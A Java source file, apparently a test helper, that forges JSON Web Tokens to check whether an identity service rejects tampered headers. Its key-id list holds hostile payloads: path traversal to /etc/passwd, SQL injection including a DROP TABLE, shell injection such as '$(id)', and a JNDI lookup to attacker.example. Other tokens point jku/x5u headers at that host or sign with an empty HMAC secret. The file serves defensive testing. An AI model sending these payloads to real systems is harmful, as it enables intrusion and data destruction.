package io.playledger.access.identity.token;

import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Consumer;
import tools.jackson.databind.json.JsonMapper;
import tools.jackson.databind.node.ObjectNode;

/** Tokens that name a key of their own, or bring one along. */
final class CraftedKeys {

  private static final JsonMapper JSON = JsonMapper.builder().build();

  private final TokenForge forge;
  private final Map<String, String> tokens = new LinkedHashMap<>();

  CraftedKeys(TokenForge forge) {
    this.forge = forge;
  }

  /** By name. */
  Map<String, String> all() {
    keyIds();
    keysBroughtAlong();
    return tokens;
  }

  private void keyIds() {
    for (String kid :
        new String[] {
          forge.ours().getKeyID(),
          "",
          "0",
          "../../../../../../dev/null",
          "/dev/null",
          "/etc/passwd",
          "C:\\Windows\\win.ini",
          "file:///dev/null",
          "https://attacker.example/key.pem",
          "' OR '1'='1",
          "x' UNION SELECT 'AA' -- ",
          "'; DROP TABLE auth.signing_key; --",
          "| id",
          "$(id)",
          "${jndi:ldap://attacker.example/a}",
          "#{T(java.lang.Runtime)}",
          "%00",
          "\u0000",
          "*",
          forge.ours().getKeyID().toUpperCase(java.util.Locale.ROOT) + " ",
          "k".repeat(1_000)
        }) {
      String name = kid.length() > 60 ? "long" : kid;
      put("kid " + name, forge.theirs(header -> header.put("kid", kid), claims -> {}));
      put(
          "kid " + name + ", HS256 without a secret",
          TokenForge.hmac(
              forge.content(h -> h.put("alg", "HS256").put("kid", kid), c -> {}),
              256,
              new byte[1]));
    }
    put("no kid", forge.theirs(header -> header.remove("kid"), claims -> {}));
    put("kid is a number", forge.theirs(header -> header.put("kid", 1), claims -> {}));
    put(
        "kid is an object",
        forge.theirs(header -> header.putObject("kid").put("a", 1), claims -> {}));
    put(
        "signed by us, unknown kid",
        forge.ours(header -> header.put("kid", "unknown"), claims -> {}));
  }

  private void keysBroughtAlong() {
    String url = "https://attacker.example/jwks.json";
    var jwk = JSON.readTree(forge.theirs().toPublicJWK().toJSONString());
    for (boolean named : new boolean[] {true, false}) {
      Consumer<ObjectNode> kid =
          header -> header.put("kid", named ? forge.ours().getKeyID() : "theirs");
      String with = named ? ", our kid" : ", their kid";
      put("jwk" + with, forge.theirs(kid.andThen(h -> h.set("jwk", jwk)), c -> {}));
      put("jku" + with, forge.theirs(kid.andThen(h -> h.put("jku", url)), c -> {}));
      put("x5u" + with, forge.theirs(kid.andThen(h -> h.put("x5u", url)), c -> {}));
      put(
          "x5c" + with,
          forge.theirs(
              kid.andThen(h -> h.putArray("x5c").add(TokenForge.encoded(forge.publicKey()))),
              c -> {}));
      put(
          "x5t" + with,
          forge.theirs(kid.andThen(h -> h.put("x5t", TokenForge.encoded("print"))), c -> {}));
    }
    put("signed by us, unknown crit", forge.ours(h -> h.putArray("crit").add("x"), c -> {}));
    put(
        "signed by us, unencoded",
        forge.ours(h -> h.put("b64", false).putArray("crit").add("b64"), c -> {}));
    put(
        "signed by us, compressed",
        forge.ours(h -> h.put("zip", "DEF").putArray("crit").add("zip"), c -> {}));
  }

  private void put(String name, String token) {
    if (tokens.put(name, token) != null) {
      throw new AssertionError("two crafted tokens are named " + name);
    }
  }
}
